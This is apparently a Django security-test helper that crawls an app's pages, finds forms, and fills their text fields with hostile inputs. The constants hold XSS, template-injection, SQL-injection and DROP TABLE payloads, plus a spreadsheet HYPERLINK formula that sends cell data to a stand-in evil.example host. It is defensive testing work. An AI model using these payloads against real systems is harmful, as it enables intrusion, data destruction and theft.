"""What somebody types who wants to get in: script, markup, template, SQL, formula; and a walker of forms."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urljoin, urlsplit

from bs4 import BeautifulSoup, Tag
from django.test import Client
from django.urls import Resolver404, resolve

CALCULATED = "62615533"
"""What `7919*7907` comes to if anything calculates it."""
LONG = (
    "\"'><img src=x onerror=pwned()><script>pwned()</script></textarea><svg/onload=pwned()>"
    "{{7919*7907}}{% debug %}${7919*7907}<%= 7919*7907 %>'); DROP TABLE cases_case;--"
)
SHORT = "\"'><img src=x onerror=pwned()>{{7919*7907}}';--"
ALPINE = "{{constructor.constructor('pwned()')()}} x-init=\"pwned()\" <div hx-get=/ hx-trigger=load>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SQL = ("' OR 1=1 --", "') OR ('1'='1", "%' OR '%'='", "1; DROP TABLE cases_case;--", "\\'; SELECT pg_sleep(9);--")
LINK = "javascript:pwned()"
ALL = (LONG, SHORT, ALPINE, FORMULA, LINK, *SQL)
TEXT_FIELDS = {"text", "search", "tel", "email", "url", "password", ""}
MOST_PAGES = 80


def hostile_for(most: int) -> str:
    return LONG if most >= len(LONG) else SHORT[:most]


@dataclass
class Form:
    address: str
    method: str
    fields: dict[str, str] = field(default_factory=dict)
    texts: dict[str, int] = field(default_factory=dict)
    """Fields somebody types into, with the length they take."""

    def filled(self, payload: str) -> dict[str, str]:
        return self.fields | {name: payload[:most] for name, most in self.texts.items()}


def forms_of(html: bytes, page: str) -> Iterator[Form]:
    for tag in BeautifulSoup(html, "html.parser").find_all("form"):
        action = str(tag.get("action") or tag.get("hx-post") or tag.get("hx-get") or page)
        method = "post" if tag.get("hx-post") else str(tag.get("method", "get")).lower()
        form = Form(urljoin(page, action), method)
        for one in tag.find_all(["input", "textarea", "select", "button"]):
            _add(form, one)
        yield form


def _add(form: Form, tag: Tag) -> None:
    name, kind = str(tag.get("name") or ""), str(tag.get("type", "")).lower()
    if not name or kind in {"file", "submit", "button"}:
        return
    if tag.name == "select":
        options = [str(option.get("value", option.text)) for option in tag.find_all("option")]
        form.fields[name] = next((value for value in options if value), "")
    elif tag.name == "textarea" or (tag.name == "input" and kind in TEXT_FIELDS):
        form.texts[name] = int(str(tag.get("maxlength") or 2000))
        form.fields[name] = str(tag.get("value", ""))
    elif kind in {"radio", "checkbox"}:
        form.fields.setdefault(name, str(tag.get("value", "on")))
    else:
        form.fields[name] = str(tag.get("value", ""))


def links_of(html: bytes, page: str) -> Iterator[str]:
    for tag in BeautifulSoup(html, "html.parser").find_all("a", href=True):
        target = urlsplit(urljoin(page, str(tag["href"])))
        if not target.netloc and target.path.startswith("/"):
            yield target.path + (f"?{target.query}" if target.query else "")


def kind_of(address: str) -> str:
    """Return the name of the view an address leads to; two cases are one kind of page."""
    try:
        return resolve(urlsplit(address).path).view_name
    except Resolver404:
        return re.sub(r"\d+", "0", address)


def walk(client: Client, starts: list[str]) -> Iterator[tuple[str, bytes]]:
    """Yield pages a person can reach, one of each kind, by the links on them."""
    waiting, seen = list(starts), set[str]()
    while waiting and len(seen) < MOST_PAGES:
        address = waiting.pop(0)
        kind = kind_of(address)
        if kind in seen:
            continue
        seen.add(kind)
        response = client.get(address, follow=True)
        if response.status_code == 200 and "text/html" in response.headers.get("Content-Type", ""):
            yield address, response.content
            waiting += links_of(response.content, address)
